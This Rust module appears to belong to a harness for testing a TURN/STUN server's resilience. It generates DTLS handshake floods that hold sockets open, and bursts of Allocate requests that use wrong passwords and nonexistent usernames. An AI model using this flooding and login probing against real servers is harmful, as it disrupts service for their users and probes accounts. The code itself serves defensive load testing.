//! Datagrams without an allocation: handshakes that go no further, and requests.

use std::collections::VecDeque;
use std::net::UdpSocket;

use stun_wire::Method;

use super::Attack;
use super::hello::{first_flight, randomise, with_cookie};
use crate::link::Protocol;
use crate::scene::REALM;
use crate::stun::{Answer, Login, allocate, request};

/// Handshakes per second.
const HELLOS: u32 = 500;

/// Clients per second, of which each sends five requests.
const CLIENTS: u32 = 300;

/// Clients that await responses.
const AWAITED: usize = 50;

/// Open sockets: the server would notice a closed one.
const OPEN: usize = 1500;

/// Starts DTLS sessions: two hellos, the second with the server's cookie.
pub(crate) fn dtls_hellos(mut attack: Attack) {
    let template = first_flight(Protocol::Dtls);
    let mut awaited: VecDeque<(UdpSocket, Vec<u8>)> = VecDeque::new();
    let mut open = VecDeque::new();
    attack.repeat(HELLOS, |attack| {
        let mut hello = template.clone();
        randomise(&mut hello, &mut attack.noise);
        let Some(socket) = socket(attack) else { return };
        drop(socket.send(&hello));
        awaited.push_back((socket, hello));
        answer_all(&mut awaited, |(socket, hello), answer| {
            with_cookie(hello, answer).is_some_and(|second| socket.send(&second).is_ok())
        });
        while awaited.len() > AWAITED {
            open.extend(awaited.pop_front().map(|(socket, _)| socket));
        }
        while open.len() > OPEN {
            open.pop_front();
        }
    });
}

/// Sends a Binding request, an Allocate request, and with the nonce of its answer one with a wrong
/// password, and two with names that no user has.
pub(crate) fn requests(mut attack: Attack) {
    let wrong = Login::new("user0", REALM, "a wrong password");
    let mut awaited: VecDeque<(UdpSocket, Vec<u8>)> = VecDeque::new();
    attack.repeat(CLIENTS, |attack| {
        let Some(socket) = socket(attack) else { return };
        drop(socket.send(&request(Method::BINDING, &mut attack.noise, None, |_| ())));
        let challenged = allocate(17, &mut attack.noise, None);
        drop(socket.send(&challenged));
        awaited.push_back((socket, challenged));
        let noise = &mut attack.noise;
        answer_all(&mut awaited, |(socket, challenged), answer| {
            let nonce = Answer::to(challenged, answer).and_then(|answer| answer.nonce);
            let Some(nonce) = nonce else { return false };
            drop(socket.send(&allocate(17, noise, Some((&wrong, &nonce)))));
            for _ in 0..2 {
                let unknown = Login::new(&format!("nobody{}", noise.next()), REALM, "anything");
                drop(socket.send(&allocate(17, noise, Some((&unknown, &nonce)))));
            }
            true
        });
        while awaited.len() > AWAITED {
            awaited.pop_front();
        }
    });
}

/// A socket of the next client.
fn socket(attack: &mut Attack) -> Option<UdpSocket> {
    let from = attack.attacker.address(&mut attack.noise);
    let socket = UdpSocket::bind((from, 0)).ok()?;
    socket.connect(attack.places.turn(from)).ok()?;
    socket.set_nonblocking(true).ok()?;
    Some(socket)
}

/// Passes the datagrams that have arrived to `respond`.
fn answer_all(
    clients: &mut VecDeque<(UdpSocket, Vec<u8>)>,
    mut respond: impl FnMut(&(UdpSocket, Vec<u8>), &[u8]) -> bool,
) {
    let mut buffer = [0; 2048];
    for client in clients.iter() {
        while let Ok(len) = client.0.recv(&mut buffer) {
            respond(client, &buffer[..len]);
        }
    }
}
